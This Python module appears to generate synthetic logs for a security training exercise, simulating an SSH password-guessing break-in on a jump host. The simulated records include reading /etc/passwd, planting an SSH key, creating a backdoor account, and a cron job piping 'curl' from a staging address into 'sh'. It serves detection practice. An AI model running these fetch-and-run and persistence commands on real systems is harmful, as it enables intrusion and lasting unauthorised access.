"""The attack's way in from the internet: passwords are guessed on the jump host until one fits."""

from random import Random

from tocsin.exercise.clock import Clock
from tocsin.exercise.company import Company
from tocsin.exercise.linux_day import SSHD, LinuxWriter
from tocsin.exercise.network_day import NetworkWriter

ATTACKER = "203.0.113.66"
STAGING = "203.0.113.77"
VICTIM = "nh-jump01"
STOLEN = "svc-backup"
# All of them exist: somebody has read them off a leaked script.
_GUESSED = ("root", "postgres", "www-data", "svc-backup", "svc-sql", "svc-deploy", "svc-monitor")


def break_in(
    linux: LinuxWriter, network: NetworkWriter, company: Company, clock: Clock, rng: Random
) -> None:
    """Guessing from nine hours and forty minutes before the end, for twenty-five minutes."""
    begin = clock.before_end(9.67)
    guesses = 640
    step = 1500 / guesses
    public = company.public_address(VICTIM)
    for number in range(guesses):
        at = begin + number * step
        user = rng.choice(_GUESSED)
        port = rng.randrange(30000, 60000)
        failed = f"Failed password for {user} from {ATTACKER} port {port} ssh2"
        linux.say(at + 0.4, VICTIM, SSHD, failed, 38)
        if number % 6 == 5:
            limit = (
                f"error: maximum authentication attempts exceeded for {user}"
                f" from {ATTACKER} port {port} ssh2 [preauth]"
            )
            linux.say(at + 0.8, VICTIM, SSHD, limit, 35)
        if number % 3 == 0:
            ends = (ATTACKER, port, company.address(VICTIM), 22)
            network.connection(at, ends, ("tcp", "ssh"), 1900, 2400, duration_s=2.6)
    notice = {
        "note": "SSH::Password_Guessing",
        "msg": f"{ATTACKER} appears to be guessing SSH passwords (seen in 30 connections).",
        "sub": f"Sampled servers: {public}",
        "src": ATTACKER,
    }
    network.zeek_row("notice", begin + 300, notice)
    _settle(linux, network, company, begin + 1512)


def _settle(linux: LinuxWriter, network: NetworkWriter, company: Company, at: float) -> None:
    """The password fits; a key, an account, a job and a program are left behind."""
    opened = f"pam_unix(sshd:session): session opened for user {STOLEN}(uid=998) by {STOLEN}(uid=0)"
    accepted = f"Accepted password for {STOLEN} from {ATTACKER} port 51514 ssh2"
    linux.say(at, VICTIM, SSHD, accepted, 38)
    linux.say(at + 0.1, VICTIM, SSHD, opened, 86)
    for offset, arguments in ((20, ("id",)), (26, ("uname", "-a")), (41, ("cat", "/etc/passwd"))):
        linux.executed(at + offset, VICTIM, STOLEN, f"/usr/bin/{arguments[0]}", arguments)
    key_file = f"/home/{STOLEN}/.ssh/authorized_keys"
    linux.audit(
        at + 95,
        VICTIM,
        [
            "SYSCALL arch=c000003e syscall=257 success=yes exit=3 ppid=4120 pid=4188 auid=998"
            ' uid=998 gid=998 euid=998 tty=pts1 ses=77 comm="bash" exe="/usr/bin/bash" key="keys"',
            f'PATH item=1 name="{key_file}" inode=262190 mode=0100600 ouid=998 nametype=CREATE',
        ],
    )
    fetch = ("curl", "-s", f"http://{STAGING}/d/kw.bin", "-o", "/dev/shm/.k/kw")  # noqa: S108
    linux.executed(at + 160, VICTIM, STOLEN, "/usr/bin/curl", fetch)
    jump = company.address(VICTIM)
    network.request(at + 160.3, jump, STAGING, STAGING, "/d/kw.bin", "curl/8.15.0")
    program = "/dev/shm/.k/kw"  # noqa: S108
    linux.executed(at + 172, VICTIM, STOLEN, program, (program, "-d"))
    shell = f"{STOLEN} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/useradd -m sysmgr"
    linux.say(at + 230, VICTIM, "sudo", shell, 85)
    account = "new user: name=sysmgr, UID=1013, GID=1013, home=/home/sysmgr, shell=/bin/bash, from=/dev/pts/1"
    linux.say(at + 231, VICTIM, "useradd", account, 86)
    for number in range(12):
        job = f"({STOLEN}) CMD (curl -fsSL http://{STAGING}/k | sh)"
        linux.say(at + 300 + number * 1800, VICTIM, "CRON", job, 78)
